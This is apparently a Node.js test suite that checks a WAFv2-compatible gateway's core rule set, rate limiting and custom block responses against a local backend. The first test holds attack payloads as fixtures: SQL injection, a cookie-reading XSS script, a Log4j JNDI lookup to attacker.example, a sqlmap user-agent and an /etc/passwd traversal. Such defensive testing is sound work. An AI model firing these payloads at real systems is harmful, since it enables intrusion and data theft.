// The WAF on the data plane of a real edge process, configured only through @aws-sdk/client-wafv2:
// the managed core rule group, a rate-based rule counted through the cluster's grains, and a
// custom block response. A counting backend proves blocked requests never reach it.
import { after, before, describe, test } from "node:test";
import assert from "node:assert/strict";
import http from "node:http";
import { AssociateWebACLCommand, CreateWebACLCommand, WAFV2Client } from "@aws-sdk/client-wafv2";
import { CreateDeploymentCommand, ImportRestApiCommand } from "@aws-sdk/client-api-gateway";
import { adminCredentials, freePort, startGateway } from "./gateway.mjs";

const Scope = "REGIONAL";
const visibility = (name) => ({ SampledRequestsEnabled: false, CloudWatchMetricsEnabled: false, MetricName: name });

describe("the WAF on the data plane", () => {
  let gateway;
  let waf;
  let backend;
  let backendCalls = 0;
  let backendPort;

  before(async () => {
    gateway = await startGateway();
    waf = new WAFV2Client({ endpoint: `http://127.0.0.1:${gateway.managementPort}`, region: "us-east-1", credentials: { ...adminCredentials }, maxAttempts: 1 });
    backend = http.createServer((request, response) => {
      backendCalls++;
      request.resume();
      request.on("end", () => {
        response.writeHead(200, { "content-type": "application/json" });
        response.end(JSON.stringify({ path: request.url }));
      });
    });
    backendPort = await freePort();
    await new Promise((resolve) => backend.listen(backendPort, "127.0.0.1", resolve));
  });
  after(async () => {
    await new Promise((resolve) => backend?.close(resolve));
    await gateway?.stop();
  });

  // Imports an API whose /items (GET and POST) proxy to the counting backend, deploys stage prod,
  // creates a web ACL with `rules`, associates it and waits until `probe` is blocked.
  async function protectedStage(name, rules, probe, customResponseBodies) {
    const integration = (method) => ({ type: "http_proxy", httpMethod: method, uri: `http://127.0.0.1:${backendPort}/items` });
    const document = {
      openapi: "3.0.1",
      info: { title: name, version: "1" },
      paths: { "/items": { get: { "x-amazon-apigateway-integration": integration("GET") }, post: { "x-amazon-apigateway-integration": integration("POST") } } },
    };
    const api = await gateway.client.send(new ImportRestApiCommand({ body: new TextEncoder().encode(JSON.stringify(document)) }));
    await gateway.client.send(new CreateDeploymentCommand({ restApiId: api.id, stageName: "prod" }));
    const acl = (await waf.send(new CreateWebACLCommand({
      Name: name, Scope, DefaultAction: { Allow: {} }, VisibilityConfig: visibility(name), Rules: rules, CustomResponseBodies: customResponseBodies,
    }))).Summary;
    await waf.send(new AssociateWebACLCommand({ WebACLArn: acl.ARN, ResourceArn: `arn:aws:apigateway:us-east-1::/restapis/${api.id}/stages/prod` }));
    const host = `${api.id}.execute-api.localhost`;
    const started = Date.now();
    for (;;) {
      const response = await probe(host);
      if (response.status >= 500) {
        assert.fail(`unexpected ${response.status} while waiting for the web ACL: ${response.body}`);
      }
      if (response.blocked) {
        return host;
      }
      assert.ok(Date.now() - started < 5_000, "the web ACL did not reach the edge within 5 s");
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
  }

  function send(host, { method = "GET", path = "/prod/items", headers = {}, body } = {}) {
    return new Promise((resolve, reject) => {
      const request = http.request(
        { host: "127.0.0.1", port: gateway.dataPort, path, method, headers: { ...headers, host, ...(body ? { "content-type": "application/json" } : {}) }, timeout: 10_000 },
        (response) => {
          const chunks = [];
          response.on("data", (chunk) => chunks.push(chunk));
          response.on("end", () => resolve({ status: response.statusCode, headers: response.headers, body: Buffer.concat(chunks).toString("utf8") }));
        },
      );
      request.on("timeout", () => request.destroy(new Error("data-plane request timed out")));
      request.on("error", reject);
      request.end(body);
    });
  }

  test("the core rule group blocks SQL injection, XSS in a JSON body, a Log4j lookup and a scanner with 403 WAF_FILTERED; ordinary requests pass", async () => {
    const rules = [{
      Name: "core", Priority: 0, OverrideAction: { None: {} }, VisibilityConfig: visibility("core"),
      Statement: { ManagedRuleGroupStatement: { VendorName: "OrleansGateway", Name: "CoreRuleSet" } },
    }];
    const sqli = (host) => send(host, { path: "/prod/items?id=" + encodeURIComponent("1' OR '1'='1") });
    const host = await protectedStage("core", rules, async (h) => {
      const response = await sqli(h);
      return { ...response, blocked: response.status === 403 };
    });

    const before = backendCalls;
    const attacks = [
      await sqli(host),
      await send(host, { method: "POST", body: JSON.stringify({ name: "Rex", notes: "<script>alert(document.cookie)</script>" }) }),
      await send(host, { headers: { "user-agent": "${jndi:ldap://attacker.example/a}" } }),
      await send(host, { headers: { "user-agent": "sqlmap/1.7.2#stable (https://sqlmap.org)" } }),
      await send(host, { path: "/prod/items?file=" + encodeURIComponent("../../../../etc/passwd") }),
    ];
    for (const response of attacks) {
      assert.equal(response.status, 403, response.body);
      assert.deepEqual(JSON.parse(response.body), { message: "Forbidden" });
      assert.equal(response.headers["x-amzn-errortype"], "ForbiddenException");
    }
    assert.equal(backendCalls, before, "a blocked request reached the backend");

    const ordinary = [
      await send(host, { path: "/prod/items?q=" + encodeURIComponent("O'Brien's select a plan") }),
      await send(host, { method: "POST", body: JSON.stringify({ name: "Rex", type: "dog", notes: "Likes walks; 1 - 2 treats a day & a <b>bold</b> attitude" }) }),
      await send(host, { headers: { "user-agent": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36" } }),
    ];
    for (const response of ordinary) {
      assert.equal(response.status, 200, response.body);
    }
    assert.equal(backendCalls, before + ordinary.length);
  });

  test("a rate-based rule on the forwarded IP blocks a client past its limit, counted through the cluster's grains, while another client passes", async () => {
    const limit = 10;
    const rules = [
      // Detects the association without touching the rate-based rule's keys.
      {
        Name: "probe", Priority: 0, Action: { Block: {} }, VisibilityConfig: visibility("probe"),
        Statement: { ByteMatchStatement: {
          SearchString: new TextEncoder().encode("yes"), FieldToMatch: { SingleHeader: { Name: "x-probe" } },
          TextTransformations: [{ Priority: 0, Type: "NONE" }], PositionalConstraint: "EXACTLY",
        } },
      },
      {
        Name: "per-client", Priority: 1, Action: { Block: {} }, VisibilityConfig: visibility("rate"),
        Statement: { RateBasedStatement: { Limit: limit, EvaluationWindowSec: 60, AggregateKeyType: "FORWARDED_IP", ForwardedIPConfig: { HeaderName: "X-Forwarded-For", FallbackBehavior: "NO_MATCH" } } },
      },
    ];
    const host = await protectedStage("rate", rules, async (h) => {
      const response = await send(h, { headers: { "x-probe": "yes" } });
      return { ...response, blocked: response.status === 403 };
    });

    // Paced a little over the edge's 250 ms flush: a burst faster than 5 % of the limit per flush is
    // refused before the key's allowance arrives (docs/protection/waf-rate-based.md, Compatibility).
    const before = backendCalls;
    const statuses = [];
    for (let i = 0; i < 16; i++) {
      const response = await send(host, { headers: { "x-forwarded-for": "198.51.100.7" } });
      assert.ok(response.status === 200 || response.status === 403, `${response.status}: ${response.body}`);
      if (response.status === 403) {
        assert.deepEqual(JSON.parse(response.body), { message: "Forbidden" });
      }
      statuses.push(response.status);
      await new Promise((resolve) => setTimeout(resolve, 260));
    }
    const admitted = statuses.filter((status) => status === 200).length;
    // admitted <= Limit + 2 x edges x ceil(Limit x 0.05) = 12 for one edge; the last requests are all blocked.
    assert.ok(admitted >= limit && admitted <= limit + 2, `admitted ${admitted} of 16 (limit ${limit}): ${statuses.join(" ")}`);
    assert.deepEqual(statuses.slice(-3), [403, 403, 403], statuses.join(" "));
    assert.equal(backendCalls, before + admitted, "a blocked request reached the backend");

    const other = await send(host, { headers: { "x-forwarded-for": "198.51.100.8" } });
    assert.equal(other.status, 200, other.body);
    const noHeader = await send(host);
    assert.equal(noHeader.status, 200, "FallbackBehavior NO_MATCH: a request without the header is not counted against anyone");
  });

  test("a Block with a custom response answers its status, headers and body instead of WAF_FILTERED", async () => {
    const rules = [{
      Name: "maintenance", Priority: 0, VisibilityConfig: visibility("custom"),
      Action: { Block: { CustomResponse: { ResponseCode: 429, CustomResponseBodyKey: "slow-down", ResponseHeaders: [{ Name: "retry-after", Value: "30" }] } } },
      Statement: { ByteMatchStatement: {
        SearchString: new TextEncoder().encode("/prod/items"), FieldToMatch: { UriPath: {} },
        TextTransformations: [{ Priority: 0, Type: "NONE" }], PositionalConstraint: "STARTS_WITH",
      } },
    }];
    const host = await protectedStage("custom", rules, async (h) => {
      const response = await send(h);
      return { ...response, blocked: response.status === 429 };
    }, { "slow-down": { ContentType: "APPLICATION_JSON", Content: '{"error":"slow down"}' } });

    const before = backendCalls;
    const response = await send(host);
    assert.equal(response.status, 429);
    assert.deepEqual(JSON.parse(response.body), { error: "slow down" });
    assert.match(response.headers["content-type"], /^application\/json/);
    assert.equal(response.headers["x-amzn-waf-retry-after"], "30", "WAFv2 prefixes custom response headers with x-amzn-waf-");
    assert.equal(backendCalls, before);
  });
});
